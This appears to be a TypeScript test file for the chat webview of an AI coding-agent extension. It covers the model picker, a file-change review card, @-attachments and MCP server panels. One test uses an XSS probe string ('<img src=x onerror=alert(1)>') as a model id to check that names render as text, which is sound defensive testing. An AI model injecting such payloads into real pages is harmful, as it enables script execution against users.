test('a message the model never answered is marked failed where it is, live and after a reload', () => {
  const { ids, onMessage } = loadChat();
  const inner = ids.get('log-inner')!;
  const started = {
    type: 'runStarted',
    id: 'mrun1',
    task: 'fix the test',
    model: 'm',
    endpoint: 'e',
    trajectory: 't',
    sandbox: { confined: true, text: 'x' },
  };
  // As a reload replays it: the run's start draws the bubble, its failure marks the same one.
  onMessage({ data: started });
  onMessage({ data: { type: 'sendFailed', id: 'mrun1', task: 'fix the test', reason: 'no answer', actions: [] } });
  const bubbles = inner.all().filter((n) => n.className.startsWith('msg user'));
  assert.deepEqual(
    bubbles.map((b) => b.className),
    ['msg user send-failed'],
  );
});

test('the model picker lists every endpoint, greys one that failed, picks for the chat, and rests during a run', () => {
  const { ids, posted, onMessage } = loadChat();
  const picker = ids.get('model-picker')!;
  const menu = ids.get('model-menu')!;
  onMessage({
    data: { type: 'modelChoice', model: 'LAR-9B', endpoint: 'default', url: 'http://a/v1', chosen: false },
  });
  assert.equal(ids.get('model-label')!.textContent, 'LAR-9B');
  assert.match(picker.title, /LAR-9B on "default" \(http:\/\/a\/v1\), the settings' default/);
  picker.fire('click');
  assert.equal(menu.hidden, false);
  assert.deepEqual(posted.at(-1), { type: 'listModels' });
  assert.match(menu.textContent ?? '', /Asking the endpoints/);
  const evil = '<img src=x onerror=alert(1)>';
  onMessage({
    data: {
      type: 'models',
      endpoints: [
        { name: 'default', url: 'http://a/v1', models: ['LAR-9B'] },
        { name: 'big', url: 'http://b/v1', models: ['LAR-27B', evil] },
        { name: 'down', url: 'http://c/v1', error: 'cannot reach the inference server at http://c/v1' },
      ],
      problems: ['lean4Agentic.endpoints entry 4: the name "big" is used twice; the first one is kept'],
    },
  });
  const options = menu.all().filter((n) => n.attrs.get('role') === 'option');
  assert.deepEqual(
    options.map((o) => o.textContent),
    ['LAR-9B', 'LAR-27B', evil],
    'model ids are text, never markup',
  );
  assert.equal(options[0]!.attrs.get('aria-selected'), 'true');
  const failed = menu.all().find((n) => n.className === 'model-group failed')!;
  assert.match(failed.textContent ?? '', /^downcannot reach/);
  assert.match(menu.textContent ?? '', /used twice/);
  options[1]!.fire('click');
  assert.deepEqual(posted.at(-1), { type: 'chooseModel', endpoint: 'big', model: 'LAR-27B' });
  assert.equal(menu.hidden, true);
  onMessage({
    data: { type: 'modelChoice', model: 'LAR-27B', endpoint: 'big', url: 'http://b/v1', chosen: true },
  });
  assert.equal(ids.get('model-label')!.textContent, 'LAR-27B');
  // During a run the model stays: the picker is disabled, and an open menu closes.
  picker.fire('click');
  onMessage({ data: { type: 'state', running: true } });
  assert.equal(picker.disabled, true);
  assert.equal(menu.hidden, true);
  onMessage({ data: { type: 'state', running: false } });
  assert.equal(picker.disabled, false);
  // A pick whose endpoint left the settings says so on the button.
  onMessage({
    data: {
      type: 'modelChoice',
      model: 'LAR-27B',
      endpoint: 'big',
      url: '',
      chosen: true,
      problem: 'This chat runs "LAR-27B" on the endpoint "big", which is no longer in lean4Agentic.endpoints',
    },
  });
  assert.equal(picker.className, 'secondary problem');
  assert.match(picker.title, /no longer in lean4Agentic\.endpoints/);
});

test("the Changes card lists the run's files with Diff, Keep and Undo by id, and a new state replaces it", () => {
  const { ids, posted, onMessage } = loadChat();
  const log = ids.get('log')!;
  const file = (id: string, path: string, extra: object = {}) => ({
    id,
    path,
    change: 'modified',
    added: 2,
    removed: 1,
    state: 'pending',
    ...extra,
  });
  const review = {
    run: 'r1.lar.jsonl',
    files: [
      file('f1', 'package.json', { runsLater: true }),
      file('f2', 'node_modules/.bin/x', { runsLater: true, untracked: true, diff: '+evil', change: 'added' }),
      file('f3', 'src/sum.js'),
    ],
    more: 0,
  };
  onMessage({ data: { type: 'runChanges', review } });
  const cards = () => log.all().filter((n) => n.className === 'run-changes');
  assert.equal(cards().length, 1);
  const text = cards()[0]!.textContent ?? '';
  assert.match(text, /^3 files changed: 3 to review/);
  assert.match(text, /2 changed files that run later .* outside the sandbox/);
  assert.match(text, /src\/sum\.js\+2 −1/);
  assert.match(text, /\+evil/, 'a file the checkpoints miss shows its diff in the card');
  const buttons = (label: string) =>
    cards()[0]!
      .all()
      .filter((n) => n.tag === 'button' && n.textContent === label);
  assert.equal(buttons('Diff').length, 2, 'no Diff nor Undo for the file the checkpoints miss');
  assert.equal(buttons('Undo').length, 2);
  buttons('Undo')[1]!.fire('click');
  assert.deepEqual(posted.at(-1), { type: 'reviewChange', run: 'r1.lar.jsonl', file: 'f3', action: 'undo' });
  buttons('Diff')[0]!.fire('click');
  assert.deepEqual(posted.at(-1), { type: 'reviewChange', run: 'r1.lar.jsonl', file: 'f1', action: 'diff' });
  buttons('Keep all')[0]!.fire('click');
  assert.deepEqual(posted.at(-1), { type: 'reviewChange', run: 'r1.lar.jsonl', file: 'all', action: 'keep' });
  const files = [{ ...review.files[0]!, state: 'kept' }, review.files[1]!, { ...review.files[2]!, state: 'undone' }];
  onMessage({ data: { type: 'runChanges', review: { ...review, files } } });
  assert.equal(cards().length, 1, 'the card is replaced, not drawn twice');
  assert.match(cards()[0]!.textContent ?? '', /^3 files changed: 1 kept, 1 undone, 1 to review/);
  assert.equal(buttons('Undo').length, 1, 'the kept file can still be undone by itself');
  assert.equal(buttons('Undo all')[0]!.disabled, true, 'Undo all leaves what was kept');
});

test('@ opens a picker chosen from by keyboard and mouse; the message carries references, its bubble chips', () => {
  const { ids, posted, onMessage } = loadChat();
  const task = ids.get('task')!;
  const footer = task.parent!;
  const find = (cls: string, under: Node_ = footer) => under.all().filter((n) => n.className.split(' ').includes(cls));
  const type = (text: string) => {
    task.value += text;
    task.selectionStart = task.value.length;
    task.fire('input');
  };
  let stopped = 0;
  const key = (k: string) =>
    task.fire('keydown', {
      key: k,
      shiftKey: false,
      isComposing: false,
      preventDefault() {},
      stopPropagation: () => stopped++,
    });
  type('why @');
  assert.deepEqual(posted.at(-1), { type: 'attachQuery', query: '' });
  onMessage({
    data: {
      type: 'attachOptions',
      query: '',
      files: ['src/a.ts'],
      selection: 'src/a.ts:2-3',
      terminal: 'Agent terminal: $ npm test',
    },
  });
  const picker = find('attach-picker')[0]!;
  assert.equal(picker.hidden, false);
  assert.equal(picker.attrs.get('role'), 'listbox');
  assert.deepEqual(
    find('attach-label').map((n) => n.textContent),
    ['File…', 'Selection', 'Terminal output'],
  );
  // A late answer to another query changes nothing.
  onMessage({ data: { type: 'attachOptions', query: 'zz', files: [] } });
  assert.equal(find('attach-option').length, 3);
  key('ArrowDown');
  assert.equal(task.attrs.get('aria-activedescendant'), 'attach-option-1');
  key('Enter');
  assert.equal(task.value, 'why @selection ');
  assert.equal(picker.hidden, true);
  // The mouse: a file typed after @.
  type('and @a');
  assert.deepEqual(posted.at(-1), { type: 'attachQuery', query: 'a' });
  onMessage({ data: { type: 'attachOptions', query: 'a', files: ['src/a.ts'] } });
  find('attach-option')[0]!.fire('click');
  assert.equal(task.value, 'why @selection and @a.ts ');
  // Escape closes the picker and goes no further (it would stop a run).
  type('@');
  assert.equal(picker.hidden, false);
  key('Escape');
  assert.equal(picker.hidden, true);
  assert.ok(stopped > 0);
  assert.deepEqual(
    find('chip-label').map((n) => n.textContent),
    ['@selection', '@a.ts'],
  );
  const remove = find('chip-remove')[1]!;
  assert.equal(remove.attrs.get('aria-label'), 'Remove @a.ts');
  remove.fire('click');
  assert.equal(task.value, 'why @selection and @');
  task.value = 'why @selection';
  ids.get('run')!.fire('click');
  const sent = posted.at(-1) as { id: string };
  assert.deepEqual(sent, { type: 'start', id: sent.id, task: 'why @selection', attachments: [{ kind: 'selection' }] });
  assert.equal(find('chip').length, 0);
  const bubbles = () =>
    ids
      .get('log')!
      .all()
      .filter((n) => n.className.startsWith('msg user'));
  assert.equal(bubbles().length, 1, 'its bubble, sending');
  // Not sent: the message and its chips come back, with why, and its bubble leaves the log.
  onMessage({
    data: {
      type: 'unsent',
      id: sent.id,
      text: 'why @selection',
      attachments: [{ kind: 'selection' }],
      reason: 'Not sent: there is no selection.',
    },
  });
  assert.equal(task.value, 'why @selection');
  assert.equal(find('chip').length, 1);
  assert.equal(bubbles().length, 0);
  assert.match(ids.get('log')!.textContent ?? '', /Not sent: there is no selection\./);
  // The sent message's bubble shows its chips.
  onMessage({
    data: {
      type: 'runStarted',
      task: 'why @selection',
      model: 'm',
      endpoint: 'http://e/v1',
      trajectory: 't',
      sandbox: { confined: true, text: 'x' },
      attachments: [{ kind: 'selection', label: '@selection', source: 'src/a.ts:2-3' }],
    },
  });
  const bubble = ids
    .get('log')!
    .all()
    .find((n) => n.className === 'msg user')!;
  assert.deepEqual(
    find('chip-label', bubble).map((n) => n.textContent),
    ['@selection'],
  );
});

test('a message whose receipt comes after the wait ran out is no longer marked failed: a Retry would send it twice', () => {
  const timeouts: (() => void)[] = [];
  const { ids, posted, onMessage } = loadChat({ timeouts });
  ids.get('task')!.value = 'fix the test';
  ids.get('run')!.fire('click');
  const start = posted.at(-1) as { id: string };
  const bubble = () =>
    ids
      .get('log-inner')!
      .all()
      .find((n) => n.className.startsWith('msg user'))!;
  for (const f of timeouts.splice(0)) f();
  assert.equal(bubble().className, 'msg user send-failed', 'no receipt in time: marked failed');
  onMessage({ data: { type: 'sendReceived', id: start.id } });
  assert.equal(bubble().className, 'msg user sending');
  assert.doesNotMatch(bubble().textContent ?? '', /Not sent/);
});

test("a run's MCP servers: one collapsible list under its start, redrawn in place as the stage changes; MCP cards name server and tool", () => {
  const { ids, onMessage } = loadChat();
  const log = ids.get('log')!;
  onMessage({
    data: {
      type: 'runStarted',
      task: 't',
      model: 'm',
      endpoint: 'http://e/v1',
      trajectory: 'r',
      sandbox: { confined: true, text: 'sandboxed' },
    },
  });
  onMessage({ data: { type: 'state', running: true } });
  const list = (stage: string, tools: string[]) => ({
    type: 'mcp',
    run: '2026-01-01T00-00-00-000Z-abcd.lar.jsonl',
    stage,
    servers: [
      { name: 'everything', transport: 'stdio', state: 'ready', tools, offered: 13 },
      { name: 'broken', transport: 'stdio', state: 'failed', tools: [], offered: 0, error: 'exit 3: no config' },
    ],
  });
  onMessage({ data: list('look', ['echo']) });
  const panel = log.all().find((n) => n.className === 'mcp-panel')!;
  assert.equal(panel.tag, 'details', 'collapsible');
  const summary = () => panel.children.find((c) => c.tag === 'summary')!.textContent;
  assert.equal(summary(), 'MCP · 2 servers (1 failed) · 1 tool in stage look');
  assert.match(panel.textContent ?? '', /everything.*stdio.*ready.*1 of 13 tools in look.*echo/);
  assert.match(panel.textContent ?? '', /broken.*stdio.*failed.*exit 3: no config/);
  // The user opened it; the stage changes: the same list, still open, now with the new stage's tools.
  panel.setAttribute('open', '');
  onMessage({ data: { type: 'mcpNotice', text: 'MCP server "broken" could not start: exit 3', warn: true } });
  onMessage({ data: list('work', ['echo', 'get-sum']) });
  assert.equal(log.all().filter((n) => n.className === 'mcp-panel').length, 1);
  assert.equal(panel.getAttribute('open'), '');
  assert.equal(summary(), 'MCP · 2 servers (1 failed) · 2 tools in stage work');
  const notice = log.all().find((n) => n.className === 'mcp-notice warn')!;
  assert.equal(notice.getAttribute('role'), 'alert');
  // An MCP call: live card, then its step card, each naming the server and the tool and marked MCP.
  const mcp = { server: 'everything', tool: 'echo' };
  onMessage({ data: { type: 'toolStarted', id: 'c1', tool: 'mcp__everything__echo', args: '{"message":"hi"}', mcp } });
  assert.match(ids.get('activity-text')!.textContent ?? '', /^Running MCP everything › echo/);
  onMessage({
    data: {
      type: 'step',
      card: {
        line: 4,
        id: 'c1',
        step: 1,
        tool: 'mcp__everything__echo',
        mcp,
        args: '{"message":"hi"}',
        status: 'ok',
        toolReward: 1,
        failed: [],
        excerpt: 'Echo: hi',
      },
    },
  });
  const card = log.all().find((n) => n.className === 'card')!;
  const head = card.children.find((c) => c.className === 'card-head')!;
  assert.deepEqual(
    head.children.map((c) => c.textContent),
    ['+1', 'MCP', 'everything › echo', 'ok', '#1'],
  );
  assert.equal(head.children[2]!.title, 'mcp__everything__echo');
  // New: the list goes with the chat, and the next run's list is its own.
  onMessage({ data: { type: 'clear' } });
  onMessage({ data: list('look', ['echo']) });
  assert.equal(log.all().filter((n) => n.className === 'mcp-panel').length, 1);
});
